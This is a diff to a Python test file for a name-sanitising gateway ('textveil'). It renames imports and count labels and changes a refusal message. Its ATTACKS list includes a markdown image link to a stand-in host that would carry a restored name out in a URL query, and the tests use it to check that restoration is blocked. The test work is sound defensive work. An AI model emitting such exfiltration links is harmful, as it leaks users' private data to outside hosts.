@@ -20,7 +20,8 @@ from gateways import (
     text_of,
 )  # fmt: skip
 from textveil import Conversation, Sanitizer
-from textveil_cli.gateway.replies import RESTORERS_BY_PATH, ApiReplyRestorer
+from textveil_cli.gateway.api_replies import ApiReplyRestorer
+from textveil_cli.gateway.proxy import RESTORERS_BY_PATH
 from textveil_cli.gateway.sse import DONE, EventReader, ServerSentEvent
 from textveil_cli.options import RestoreOptions
 from textveil_cli.serve.access import Refusal
@@ -29,7 +30,7 @@ from upstreams import Upstream
 
 PATHS = [CHAT, RESPONSES, ANTHROPIC]
 NAME = "Anna Novak"
-COUNTS = "placed=2 unplaced=0 ambiguous=0 tools=0 skipped=3"
+COUNTS = "restored=2 not_restored_words=0 ambiguous=0 tools=0 skipped=3"
 #: What an upstream may write with a name, the option that opens the place, and the reason without it.
 ATTACKS = [
     ("Look: ![x](https://e.example/?q={}) and on", {"restore_places": ["all"]}, "link"),
@@ -85,7 +86,7 @@ def test_a_place_is_restored_if_its_option_says_so(
         body, stayed = asked(path, reply.replace("{}", name)), {} if given else {reason: 1}
         once = RESTORERS_BY_PATH[path](exchange, ())
         assert text_of(path, once.restore_whole(whole(path, body))) == expected
-        assert (once.counts["skipped"], once.counts["placed"]) == (len(stayed), bool(given))
+        assert (once.counts["skipped"], once.counts["restored"]) == (len(stayed), bool(given))
         assert once.reason_counts == stayed
         for length in range(1, 6):
             streaming = RESTORERS_BY_PATH[path](exchange, ())
@@ -329,7 +330,7 @@ def test_a_text_is_not_gone_on_with_after_the_next_one(sanitizer: Sanitizer, pat
     late = ServerSentEvent("", json.loads(json.dumps(came[0].data)))
     restoring = RESTORERS_BY_PATH[path](exchange, ())
     passed = restored(restoring, came, ends=False)
-    with pytest.raises(Refusal, match="wrote to a text again"):
+    with pytest.raises(Refusal, match="continued a text after"):
         list(restoring.restore_event(late))
     assert streamed_text(path, written([*passed, *restoring.end_stream()])) == f"Hello {NAME} "
 
